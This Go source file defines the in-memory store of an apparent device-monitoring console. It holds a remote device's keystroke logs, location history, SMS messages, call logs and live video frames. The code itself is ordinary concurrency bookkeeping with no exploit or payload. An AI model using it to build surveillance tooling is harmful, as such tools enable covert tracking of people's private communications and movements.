package console

import (
	"sync"
	"time"

	"github.com/monitorpro/console/pkg/events"
)

// maxLiveSms bounds the live SMS collection; historical rows come from
// snapshot fetches instead.
const maxLiveSms = 100

// Store is the in-memory state for the selected device: canonical record
// collections plus device lifecycle flags. It implements demux.Recorder.
type Store struct {
	mu sync.Mutex

	keylogs   []events.Keylog
	locations []events.Location
	sms       []events.Sms
	callLogs  []events.CallLog

	deviceInfo      events.DeviceInfo
	deviceConnected bool
	deviceName      string
	videoFrame      []byte
	videoFrameAt    time.Time
}

func NewStore() *Store {
	return &Store{}
}

func (s *Store) RecordKeylog(k events.Keylog) {
	s.mu.Lock()
	s.keylogs = append([]events.Keylog{k}, s.keylogs...)
	s.mu.Unlock()
}

func (s *Store) RecordLocation(l events.Location) {
	s.mu.Lock()
	s.locations = append([]events.Location{l}, s.locations...)
	s.mu.Unlock()
}

func (s *Store) RecordSms(m events.Sms) {
	s.mu.Lock()
	s.sms = append([]events.Sms{m}, s.sms...)
	if len(s.sms) > maxLiveSms {
		s.sms = s.sms[:maxLiveSms]
	}
	s.mu.Unlock()
}

func (s *Store) RecordCallLog(c events.CallLog) {
	s.mu.Lock()
	s.callLogs = append([]events.CallLog{c}, s.callLogs...)
	s.mu.Unlock()
}

func (s *Store) SetDeviceInfo(info events.DeviceInfo) {
	s.mu.Lock()
	s.deviceInfo = info
	s.mu.Unlock()
}

func (s *Store) SetDeviceConnected(connected bool) {
	s.mu.Lock()
	s.deviceConnected = connected
	s.mu.Unlock()
}

func (s *Store) RenameDevice(deviceID, name string) {
	s.mu.Lock()
	s.deviceName = name
	s.mu.Unlock()
}

func (s *Store) SetVideoFrame(data []byte) {
	s.mu.Lock()
	if data == nil {
		s.videoFrame = nil
	} else {
		// The pooled frame buffer is recycled after the handler returns, so
		// the retained copy must own its bytes.
		s.videoFrame = append(s.videoFrame[:0], data...)
	}
	s.videoFrameAt = time.Now()
	s.mu.Unlock()
}

// LoadKeylogs replaces the keylog collection from a snapshot fetch.
func (s *Store) LoadKeylogs(rows []events.Keylog) {
	s.mu.Lock()
	s.keylogs = rows
	s.mu.Unlock()
}

// LoadLocations replaces the location collection from a snapshot fetch.
func (s *Store) LoadLocations(rows []events.Location) {
	s.mu.Lock()
	s.locations = rows
	s.mu.Unlock()
}

// LoadSms replaces the SMS collection from a snapshot fetch.
func (s *Store) LoadSms(rows []events.Sms) {
	s.mu.Lock()
	s.sms = rows
	s.mu.Unlock()
}

// LoadCallLogs replaces the call log collection from a snapshot fetch.
func (s *Store) LoadCallLogs(rows []events.CallLog) {
	s.mu.Lock()
	s.callLogs = rows
	s.mu.Unlock()
}

// Reset clears all device-scoped state, e.g. on device switch.
func (s *Store) Reset() {
	s.mu.Lock()
	s.keylogs = nil
	s.locations = nil
	s.sms = nil
	s.callLogs = nil
	s.deviceInfo = events.DeviceInfo{}
	s.deviceConnected = false
	s.deviceName = ""
	s.videoFrame = nil
	s.videoFrameAt = time.Time{}
	s.mu.Unlock()
}

func (s *Store) Keylogs() []events.Keylog {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]events.Keylog, len(s.keylogs))
	copy(out, s.keylogs)
	return out
}

func (s *Store) Locations() []events.Location {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]events.Location, len(s.locations))
	copy(out, s.locations)
	return out
}

func (s *Store) Sms() []events.Sms {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]events.Sms, len(s.sms))
	copy(out, s.sms)
	return out
}

func (s *Store) CallLogs() []events.CallLog {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]events.CallLog, len(s.callLogs))
	copy(out, s.callLogs)
	return out
}

func (s *Store) DeviceInfo() events.DeviceInfo {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.deviceInfo
}

func (s *Store) DeviceConnected() bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.deviceConnected
}

func (s *Store) DeviceName() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.deviceName
}

// VideoFrame returns the latest decoded video frame and its arrival time.
func (s *Store) VideoFrame() ([]byte, time.Time) {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]byte, len(s.videoFrame))
	copy(out, s.videoFrame)
	return out, s.videoFrameAt
}
